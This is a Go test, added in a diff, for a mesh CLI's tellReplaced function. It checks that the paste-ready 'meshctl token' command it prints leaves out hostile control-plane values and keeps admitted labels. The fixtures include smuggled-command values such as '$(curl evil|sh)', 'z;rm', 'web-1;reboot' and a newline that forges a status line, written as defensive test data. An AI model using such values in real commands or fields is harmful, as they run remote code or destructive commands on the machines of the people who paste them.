@@ -1,0 +1,37 @@
+package main
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+	"time"
+
+	"mesh/controlplane/api"
+)
+
+// TestTheReplacedTokensCommandTakesOnlyWhatTheMeshAdmits: the command tellReplaced
+// suggests for pasting is built from the control plane's answer, which a broker
+// passing the pin writes. A label whose value is a command substitution, or holds a
+// line break, and a node id that is no node id, were printed into it (a review);
+// they are left out, and the labels the mesh admits are kept.
+func TestTheReplacedTokensCommandTakesOnlyWhatTheMeshAdmits(t *testing.T) {
+	var errb bytes.Buffer
+	cio := &cliIO{stdout: &bytes.Buffer{}, stderr: &errb}
+	at := time.Date(2026, 12, 7, 10, 0, 0, 0, time.UTC)
+	tellReplaced(cio, []api.TokenView{{ID: "t1", Node: "web-1", CreatedAt: at,
+		Labels: map[string]string{"tier": "web", "x": "$(curl evil|sh)", "y": "a\nmeshctl: all fine", "z;rm": "v"}}}, nil)
+	out := errb.String()
+	if !strings.Contains(out, "meshctl token --node web-1 --replace --label tier=web\n") {
+		t.Errorf("the admitted label is not in the command:\n%s", out)
+	}
+	for _, bad := range []string{"$(", "curl", "all fine", "z;rm"} {
+		if strings.Contains(out, bad) {
+			t.Errorf("%q printed:\n%s", bad, out)
+		}
+	}
+	errb.Reset()
+	tellReplaced(cio, []api.TokenView{{ID: "t2", Node: "web-1;reboot", CreatedAt: at, Labels: map[string]string{"tier": "web"}}}, nil)
+	if out := errb.String(); strings.Contains(out, "mint again") || strings.Count(out, "\n") != 1 {
+		t.Errorf("a node id that is none: a command suggested:\n%s", out)
+	}
+}
